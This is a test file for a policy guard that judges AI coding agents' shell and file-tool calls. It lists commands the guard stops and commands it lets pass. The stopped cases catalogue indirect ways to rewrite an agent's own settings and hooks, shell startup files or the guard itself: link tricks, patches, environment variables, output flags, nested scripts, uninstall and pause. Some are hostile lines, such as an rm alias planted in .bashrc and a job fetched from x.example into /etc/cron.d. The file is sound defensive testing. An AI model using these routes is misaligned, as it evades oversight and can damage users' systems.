import { describe, expect, test } from "bun:test";
import { decide } from "../../../src/policy/decide.ts";
import type { World } from "../../../src/policy/model/world.ts";
import { exampleWorld } from "./example-world.ts";

const HOME = "/home/ada";
const FILES: Readonly<Record<string, string>> = {
  [`${HOME}/app/add.patch`]:
    "--- /dev/null\n+++ b/.claude/settings.local.json\n@@ -0,0 +1 @@\n+{}\n",
  [`${HOME}/app/move.patch`]:
    "diff --git a/c.json b/.claude/settings.json\nrename from c.json\nrename to .claude/settings.json\n",
  [`${HOME}/app/code.patch`]: "--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-x\n+y\n",
  [`${HOME}/app/set.sh`]: "#!/bin/sh\necho '{}' > ~/.claude/settings.json\n",
  [`${HOME}/app/rc.sh`]: 'echo "alias ls=rm" >> "$HOME/.bashrc"\n',
  [`${HOME}/app/outer.sh`]: "set -e\nsh ./set.sh\n",
  [`${HOME}/app/consent.sh`]: "fairlead pause 8h\n",
  [`${HOME}/app/set.py`]:
    "import os\nopen(os.path.expanduser('~/.claude/settings.json'), 'w').write('{}')\n",
  [`${HOME}/app/set.js`]:
    "require('fs').writeFileSync(require('os').homedir() + '/.codex/hooks.json', '{}')\n",
  [`${HOME}/app/quiet.sh`]:
    "# never writes ~/.claude/settings.json\necho 'edit ~/.claude/settings.json yourself'\ncat ~/.claude/settings.json\n",
  [`${HOME}/app/quiet.py`]:
    "import os\n# ~/.claude/settings.json\nprint(open(os.path.expanduser('~/.claude/settings.json')).read())\n",
  [`${HOME}/app/help.sh`]: "echo 'type fairlead pause 8h'\ngrep -c hooks ~/.bashrc\n",
  [`${HOME}/app/Makefile`]:
    "all:\n\tcp x.json ~/.claude/settings.json\nnested:\n\tsh set.sh\nfine:\n\techo ok > build.log\n",
  [`${HOME}/app/list`]: `src/a.ts\n${HOME}/.zshrc\n`,
  [`${HOME}/app/zero`]: `src/a.ts\0${HOME}/.claude/settings.json\0`,
  [`${HOME}/app/names`]: "src/a.ts\nsrc/b c.ts\n\n",
  [`${HOME}/app/link.patch`]:
    "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+../.bashrc\n\\ No newline at end of file\n",
  [`${HOME}/app/above.patch`]: "--- a/.profile\n+++ b/.profile\n@@ -1 +1 @@\n-x\n+y\n",
  [`${HOME}/app/package.json`]: JSON.stringify({
    scripts: {
      set: "sh set.sh",
      off: "fairlead uninstall",
      fine: "echo see ~/.claude/settings.json",
    },
  }),
};

const LINKS = new Map([
  [`${HOME}/app/h`, `${HOME}/.claude`],
  [`${HOME}/app/vendor/out`, `${HOME}/.config`],
  [`${HOME}/app/lib`, `${HOME}/app/src`],
]);

/** A disk with the links above, and no others. */
const world = exampleWorld({
  fileText: (path) => FILES[path],
  realPath: (path) => {
    for (const [link, to] of LINKS)
      if (path === link || path.startsWith(`${link}/`)) return to + path.slice(link.length);
    return path;
  },
  linksAt: (pattern) =>
    [...LINKS.keys()].filter((link) => `${link.slice(0, link.lastIndexOf("/"))}/*` === pattern),
});

const plain = exampleWorld({ fileText: (path) => FILES[path] });

interface Group {
  readonly name: string;
  readonly world: World;
  readonly stops: readonly string[];
  readonly passes: readonly string[];
}

const GROUPS: readonly Group[] = [
  {
    name: "a link that the line makes",
    world: plain,
    stops: [
      "ln -s ~/.codex/hooks.json n.txt; date > n.txt",
      "ln ~/.claude/settings.json sub/x.log",
      "ln -s ../../.claude/settings.json sub/x && cp a.json sub/x",
      "link ~/.claude/settings.json k",
      "cp -al ~/.claude mirror",
      "cp --link ~/.config/fairlead/config.toml c",
      "rsync -a --link-dest=$HOME/.claude src/ mirror/",
      "python3 -c \"import os; os.link('/home/ada/.claude/settings.json', 'x')\"",
      "node -e \"require('fs').linkSync('/home/ada/.codex/config.toml', 'x')\"",
      'cmd /c "mklink /H o.json C:\\Users\\ada\\.claude\\settings.json"',
      "ln -s ~/.claude h",
      "ln -s shared .claude",
      "ln -sfn ../shared/.codex .codex",
      "git apply link.patch && echo evil > l",
      "patch -p1 < link.patch; cp a l",
    ],
    passes: [
      "ln -s ../shared node_modules/x",
      "ln a.txt b.txt",
      "ln -s ~/dotfiles/.vimrc ~/.vimrc.local",
      "ln -s $PWD/tool ~/.local/bin/tool",
      "cp -al src copy",
      "cp --link a b",
      "rsync -a --link-dest=../yesterday src/ today/",
      "ln -s ~/Documents d && ls d",
      "ln -s ~/work/other other",
      "ln -s ../shared/skills .claude/skills",
      "ln -sf ../lib/a.so lib/b.so",
      "ln -s README.md docs/index.md && cat docs/index.md",
      "ln -sfn releases/2 current",
      "git apply link.patch && cat l",
      "git apply code.patch && echo ok > l",
    ],
  },
  {
    name: "a link that is on the disk",
    world,
    stops: [
      "cp -r e/. h/",
      "rsync -a e/ h/",
      "cp e/settings.json h/",
      "tar xf a.tar",
      "unzip a.zip",
      "tar xf a.tar -C vendor",
      "chmod 000 h/settings.json",
      "mv e/settings.json h/",
      "touch h/settings.json",
    ],
    passes: [
      "cp -r e/. lib/",
      "rsync -a e/ lib/",
      "cp e/a.json lib/",
      "tar xf a.tar -C src",
      "unzip a.zip -d src",
      "tar cf a.tar src",
      "chmod 644 lib/a.ts",
      "rm -rf h",
      "ls -la h",
    ],
  },
  {
    name: "settings under names that are not on the line",
    world: plain,
    stops: [
      "git apply add.patch",
      "patch -p1 < add.patch",
      "git apply -p1 move.patch",
      "git am < move.patch",
      "mv c .claude",
      "cp -r ~/backup/c ~/.claude",
      "git mv c .codex",
      "cp -r template/.claude .",
      "tar xf a.tar --xform s,^c,.claude,",
      "bsdtar xf a.tar -s ,c,.codex,",
      "git update-index --add --cacheinfo 100644,abc,.claude/settings.local.json",
      "git checkout-index .claude/settings.local.json",
    ],
    passes: [
      "git apply code.patch",
      "git apply --check add.patch",
      "git apply -p1 code.patch",
      "git checkout other-branch",
      "mv c d",
      "cp -r ../shared/skills .claude",
      "git mv .claude/commands/a.md .claude/commands/b.md",
      "cp -r template/src .",
      "tar xf release.tar.gz",
      "bsdtar xf a.tar -s ,c,d,",
      "git update-index --assume-unchanged .claude/settings.json",
      "git pull",
    ],
  },
  {
    name: "a guarded place among the words of a program",
    world: plain,
    stops: [
      "python3 -m json.tool --indent 2 a.json ~/.claude/settings.json",
      'sqlite3 x.db ".once /home/ada/.bashrc" "select 1"',
      "sqlite3 x.db \"select writefile('/home/ada/.claude/settings.json', '{}')\"",
      "psql -c '\\o /home/ada/.bashrc'",
      'gdb -batch -ex "dump memory /home/ada/.claude/settings.json 0 9" a.out',
      "strace -f -o ~/.claude/settings.json ls",
      "perf stat -o ~/.bashrc ls",
      "valgrind --log-file=$HOME/.claude/settings.json ./a.out",
      "ssh-keygen -q -N '' -f ~/.claude/settings.json",
      "make install PREFIX=~/.local",
      "cmake --install build --prefix ~/.local",
      "shuf a -o ~/.bashrc",
      "iconv -t utf8 a -o ~/.claude/settings.json",
      "uniq a ~/.zshrc",
      "wget -P /etc/cron.d http://x.example/job",
      "cd ~ && curl -OJ http://x.example/.zshrc",
      "some-tool ~/.claude/settings.json",
      "some-tool --result=$HOME/.codex/hooks.json",
      "some-tool -t/home/ada/.bashrc",
      "some-tool OUT=/home/ada/.claude/settings.json",
      "npx prettier --write ~/.claude/settings.json",
      "python3 scripts/gen.py .claude/settings.local.json",
    ],
    passes: [
      "python3 -m json.tool ~/.claude/settings.json",
      'sqlite3 x.db ".once out.csv" "select 1"',
      'sqlite3 x.db "select * from settings"',
      "psql -c \"select '~/.bashrc'\"",
      'gdb -batch -ex "run" a.out',
      "strace -f -o trace.log ls",
      "perf stat ls",
      "valgrind --log-file=v.log ./a.out",
      "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
      "make install PREFIX=$PWD/out",
      "cmake --install build --prefix out",
      "shuf a -o b",
      "iconv -t utf8 a -o b",
      "uniq a b",
      "wget -P downloads http://x.example/a",
      "cd ~/Downloads && curl -OJ http://x.example/a.tgz",
      "jq .hooks ~/.claude/settings.json",
      "some-tool --result=out/a.json",
      "shellcheck ~/.bashrc",
      'gh issue create --title x --body "change ~/.claude/settings.json by hand"',
      "npx prettier --check .claude/settings.json",
      "python3 scripts/gen.py src/a.json",
    ],
  },
  {
    name: "a guarded place in the environment of a command",
    world: plain,
    stops: [
      "GIT_TRACE=$HOME/.zshenv git fetch",
      "export GIT_TRACE2_EVENT=~/.profile; git log -1",
      "env GIT_INDEX_FILE=/home/ada/.config/fairlead/config.toml git add .",
      "HISTFILE=~/.bash_profile bash -ic true",
      "NPM_CONFIG_USERCONFIG=~/.codex/hooks.json npm config set fund false",
      "LESSHISTFILE=~/.bashrc less README.md",
      "NODE_OPTIONS=--redirect-warnings=$HOME/.zshrc node a.js",
      "ASAN_OPTIONS=log_path=$HOME/.bashrc ./a.out",
      "OUT=~/.claude/settings.json ./build.sh",
      "GIT_TRACE=.git/hooks/pre-commit git status",
    ],
    passes: [
      "GIT_TRACE=trace.log git fetch",
      "export GIT_TRACE2_EVENT=$PWD/events.json; git log -1",
      "env GIT_INDEX_FILE=.git/other-index git add src",
      "ZDOTDIR=~/.config/zsh zsh -c true",
      "KUBECONFIG=~/.kube/dev kubectl get pods",
      "export RC=~/.zshrc; grep alias $RC",
      "export BASHRC=~/.bashrc",
      "PATH=$HOME/.local/bin:$PATH cargo build",
      "OUT=dist ./build.sh",
      "HISTFILE=/dev/null bash -ic true",
    ],
  },
  {
    name: "an option or an operand that a program writes",
    world: plain,
    stops: [
      "gcc -Wl,-Map,$HOME/.zshrc a.c",
      "clang a.c -Wl,-Map=$HOME/.zshrc",
      "sdiff -o ~/.profile a b",
      "tar -g ~/.bashrc -cf a.tar src",
      "zip a.zip src -lf ~/.bashrc",
      "node --cpu-prof --cpu-prof-dir=$HOME/.claude --cpu-prof-name=settings.json a.js",
      "objcopy a.o ~/.bashrc",
      "awk -v out=$HOME/.zshrc '{ print > out }' a.txt",
      "git merge-file ~/.profile a b",
      "git credential-store --file ~/.bashrc store",
      "history -w ~/.zshrc",
      "fc -W ~/.zshrc",
      "go test -coverprofile=$HOME/.profile ./...",
      "awk 'BEGIN { print > ARGV[1] }' ~/.bashrc",
      "printf 'w /home/ada/.bashrc\\nq\\n' | ed -s README.md",
      "ruff check --output-file ~/.bashrc",
      "ssh -o UserKnownHostsFile=~/.bashrc host true",
      "git -c trace2.eventTarget=/home/ada/.profile status",
      "git config --global trace2.normalTarget ~/.bashrc",
      "cp .zshrc ~/",
      "tsc --outDir ~/.claude",
    ],
    passes: [
      "gcc -Wl,-rpath,$HOME/.local/lib -Wl,-Map,out.map a.c",
      "ssh -F ~/.ssh/config host ls",
      "grep alias ~/.bashrc",
      "source ~/.bashrc",
      "diff ~/.bashrc a",
      "tmux -f ~/.tmux.conf",
      "bash --rcfile ~/.bashrc -ic true",
      "git -C ~/.config/nvim status",
      "docker run -v ~/.gitconfig:/root/.gitconfig:ro img git log",
      "kubectl --kubeconfig ~/.kube/config get pods",
      "awk -v f=~/.bashrc 'BEGIN { while ((getline l < f) > 0) print l }'",
      "scp host:.bashrc remote-bashrc",
      "history 20",
      "go test -coverprofile=cover.out ./...",
      "awk 'BEGIN { print ARGV[1] }' ~/.bashrc",
      "printf 's,a,/home/ada/.bashrc,\\nw\\nq\\n' | ed -s README.md",
      "git log -p -- .claude/settings.json",
      "ssh -o UserKnownHostsFile=~/.ssh/known_hosts host ls",
      "tee -a out/rc < a",
      "tar -g snapshot -cf a.tar src",
      "tsc --outDir dist",
    ],
  },
  {
    name: "another name of a file that shells read",
    world: plain,
    stops: [
      "ln ~/.bashrc x",
      "cp -l ~/.zshrc x",
      "cp -al ~/.profile x",
      "rsync -a --link-dest=$HOME ~/.bashrc x/",
      "pax -rwl ~/.bashrc x",
      "busybox ln ~/.bashrc x",
    ],
    passes: [
      "ln -s ~/.bashrc x",
      "cp ~/.zshrc x",
      "cp -a ~/.profile x",
      "rsync -a ~/.bashrc x/",
      "pax -rw src x",
      "ln a b",
    ],
  },
  {
    name: "an agent's folder that Git or another repository fills",
    world: plain,
    stops: [
      "git read-tree --prefix=.claude/ side",
      "make-index | git update-index --index-info",
      "git checkout-index -a --prefix=.claude/",
      "git archive --prefix=.claude/ HEAD | tar x",
      "git worktree add .claude side",
      "git submodule add ../lib .codex",
      "git clone ../lib .cursor",
      "git subtree add --prefix .claude ../lib main",
      "svn export http://x.example/c .claude",
      "gh repo clone a/b .claude",
      "git -C ~ apply app/above.patch",
      "git apply --directory=.. above.patch",
      "patch -d .. -p1 < above.patch",
    ],
    passes: [
      "git read-tree --prefix=vendor/x/ side",
      "printf '100644 abc\\tsrc/a.ts\\n' | git update-index --index-info",
      "git checkout-index -a --prefix=out/",
      "git archive --prefix=app-1.0/ HEAD | gzip > a.tgz",
      "git worktree add ../wt side",
      "git submodule add ../skills .claude/skills/x",
      "git clone ../lib vendor/lib",
      "git subtree add --prefix vendor/lib ../lib main",
      "svn export http://x.example/c c",
      "gh repo clone a/b",
      "git -C vendor apply ../code.patch",
      "git apply --directory=vendor above.patch",
      "patch -d vendor -p1 < code.patch",
    ],
  },
  {
    name: "settings of Git that another command turns into programs",
    world: plain,
    stops: [
      "git config --rename-section x alias",
      "git config rename-section y core",
      "git config --global --rename-section a filter.b",
      "GIT_EDITOR='cp a' git config -e",
      "git -c core.editor=./ed.sh config --edit",
      "EDITOR=./ed.sh git config edit --global",
      "NPM_CONFIG_GLOBAL=true npm uninstall fairlead",
      "npm_config_location=global npm uninstall fairlead",
    ],
    passes: [
      "git config --rename-section branch.a branch.b",
      "git config rename-section remote.a remote.b",
      "git config --global --remove-section alias",
      "GIT_EDITOR=cat git config -e",
      "git -c core.editor=true commit --amend",
      "EDITOR=vim git config edit --global",
      "NPM_CONFIG_GLOBAL=true npm ls",
      "npm uninstall fairlead",
    ],
  },
  {
    name: "names out of a file",
    world: plain,
    stops: [
      "xargs -a list rm",
      "xargs -0 -a zero rm -f",
      "xargs touch -d yesterday < list; xargs -a list truncate -s 0",
      "sort -u list | xargs -n1 rm",
      "rm $(cat list)",
      'rm -- "$(< list)"',
      'while read -r f; do echo x > "$f"; done < list',
      "for f in $(cat list); do cp a $f; done",
      'mapfile -t a < list; rm "${a[@]}"',
      "parallel rm :::: list",
      "parallel -a list rm",
      "tar -cf a.tar --remove-files -T list",
      "cpio -pdl x < list",
      "zip -m a.zip -@ < list",
      "git rm --pathspec-from-file=list",
    ],
    passes: [
      "xargs -a names rm",
      "xargs -a list wc -l",
      "xargs -0 -a zero grep hooks",
      "sort -u list | xargs -n1 head -1",
      "cat $(cat list)",
      'grep -c alias -- "$(< list)"',
      'while read -r f; do echo "$f"; done < list',
      "for f in $(cat names); do cp a $f; done",
      'mapfile -t a < list; wc "${a[@]}"',
      "parallel wc -l :::: list",
      "parallel -a missing rm",
      "tar -cf a.tar -T list",
      "cpio -pd x < names",
      "zip a.zip -@ < names",
      "git rm --pathspec-from-file=names",
    ],
  },
  {
    name: "what a script or a recipe on the disk says",
    world: plain,
    stops: [
      "sh set.sh",
      "./rc.sh",
      "bash outer.sh",
      ". ./consent.sh",
      "python3 set.py",
      "node set.js",
      "make",
      "make nested",
      "npm run set",
      "npm run off",
    ],
    passes: [
      "sh quiet.sh",
      "./help.sh",
      "python3 quiet.py",
      "make fine",
      "npm run fine",
      "cat set.sh",
      "bash -n set.sh",
      "chmod +x set.sh",
      "sh missing.sh",
      "node missing.js",
    ],
  },
  {
    name: "files that a client reads into each shell",
    world: plain,
    stops: [
      "echo 'ls() { :; }' >> ~/.claude/shell-snapshots/snapshot-zsh-1.sh",
      "cp x.sh ~/.claude/session-env/1/hook-0.sh",
      "sed -i s/a/b/ ~/.codex/shell_snapshots/*.sh",
    ],
    passes: [
      "ls ~/.claude/shell-snapshots",
      "cat ~/.claude/session-env/1/hook-0.sh",
      "grep -c alias ~/.codex/shell_snapshots/*.sh",
    ],
  },
];

async function verdictOf(command: string, there: World): Promise<string> {
  return (await decide({ tool: "Bash", input: { command } }, { ...there })).verdict;
}

describe.each(GROUPS)("$name", ({ world: there, stops, passes }) => {
  test("has as many commands that pass as it stops", () => {
    expect(passes.length).toBe(stops.length);
  });
  test.each(stops.map((command) => [command]))("%s is stopped", async (command) => {
    expect(await verdictOf(command, there)).not.toBe("pass");
  });
  test.each(passes.map((command) => [command]))("%s passes", async (command) => {
    expect(await verdictOf(command, there)).toBe("pass");
  });
});

test.each([
  [{ dir: "~/.claude", name: "settings.json", content: "{}" }, "ask"],
  [{ path: "~/", file: ".zshrc", content: "x" }, "ask"],
  [{ cwd: "/home/ada/.codex", path: "hooks.json", data: "x" }, "ask"],
  [{ folder: ".claude", filename: "settings.local.json", text: "x" }, "ask"],
  [{ directory: "~/.claude", files: [{ name: "settings.json", content: "{}" }] }, "ask"],
  [{ root: "/home/ada", relative_path: ".claude/settings.json", text: "x" }, "ask"],
  [{ dir: "src", name: "settings.json", content: "{}" }, "pass"],
  [{ path: "/home/ada/app", file: "notes.txt", content: "x" }, "pass"],
  [{ cwd: "/home/ada/app", path: "hooks.ts", data: "x" }, "pass"],
  [{ folder: ".claude", filename: "notes.md", text: "x" }, "pass"],
  [{ directory: "~/app", files: [{ name: "settings.json", content: "{}" }] }, "pass"],
  [{ path: "~/app/README.md", title: "Fix .bashrc", text: "x" }, "pass"],
] as const)("a folder and a name in two fields %j: %s", async (input, verdict) => {
  expect((await decide({ tool: "mcp__files__write_file", input }, plain)).verdict).toBe(verdict);
});

test("reading by a folder and a name is judged by both", async () => {
  const read = (name: string) =>
    decide({ tool: "mcp__files__read", input: { dir: "~/.local/state/fairlead", name } }, plain);
  expect((await read("allow-once.key")).verdict).toBe("deny");
});

test("files that a client reads into each shell are guarded where a variable moved them", async () => {
  const moved = exampleWorld({
    env: (name) => (name === "CLAUDE_CONFIG_DIR" ? "/srv/profile" : undefined),
  });
  expect(await verdictOf("echo x >> /srv/profile/shell-snapshots/a.sh", moved)).toBe("ask");
});

test("a script that a script of a script runs is read like the first one", async () => {
  const files: Readonly<Record<string, string>> = {
    ...FILES,
    [`${HOME}/app/third.sh`]: "sh ./outer.sh\n",
  };
  const there = exampleWorld({ fileText: (path) => files[path] });
  expect(await verdictOf("sh third.sh", there)).toBe("ask");
});
